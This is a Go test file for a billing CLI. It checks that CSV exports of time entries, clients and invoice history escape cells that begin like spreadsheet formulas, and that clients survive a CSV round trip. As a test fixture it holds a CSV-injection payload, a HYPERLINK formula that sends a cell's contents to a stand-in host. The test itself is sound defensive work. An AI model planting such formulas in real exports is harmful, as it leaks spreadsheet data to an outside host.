package cli_test

import (
	"encoding/csv"
	"strings"
	"testing"
)

// column is a column of CSV by its name.
func column(t *testing.T, sheet, name string) []string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(sheet)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var cells []string
	for at, title := range rows[0] {
		for _, row := range rows[1:] {
			if title == name {
				cells = append(cells, row[at])
			}
		}
	}
	return cells
}

// A spreadsheet runs what begins like a formula, whoever wrote it: a tracker, a client, or a register.
func TestNoListAsCSVHoldsAFormula(t *testing.T) {
	t.Parallel()
	const formula = `=HYPERLINK("http://x.example/?"&A1)`
	h := newHarness(t)
	h.write(t, "hours.json", strings.ReplaceAll(hours, `"description":"Tokens"`,
		`"description":"=HYPERLINK(\"http://x.example/?\"&A1)","user":"@ana"`))
	h.write(t, "clients.json", strings.NewReplacer("Brutăria Morii SRL", "+Morii SRL", `"contact":""`, `"contact":"=1+1"`).Replace(book))
	h.succeed(t, "clients", "import", h.path("clients.json"))
	h.issued(t)
	h.succeed(t, "storno", "FCT-0001", "--yes")
	if got := column(t, h.succeed(t, "entries", "--csv"), "description")[0]; got != "'"+formula {
		t.Errorf("an entry says %s", got)
	}
	if got := column(t, h.succeed(t, "clients", "--csv"), "contact")[0]; got != "'=1+1" {
		t.Errorf("a contact is %s", got)
	}
	history := h.succeed(t, "history", "--csv")
	if got := column(t, history, "client")[0]; got != "'+Morii SRL" {
		t.Errorf("an invoice is to %s", got)
	}
	if got := column(t, history, "total")[0]; got != "-1058.75" {
		t.Errorf("the total of the storno is %q, no number", got)
	}
	other := newHarness(t)
	other.succeed(t, "clients", "import", other.write(t, "clients.csv", h.succeed(t, "clients", "export", "--csv")))
	if got, want := other.succeed(t, "clients", "export"), h.succeed(t, "clients", "export"); got != want {
		t.Errorf("through CSV it becomes\n%s, it was\n%s", got, want)
	}
}
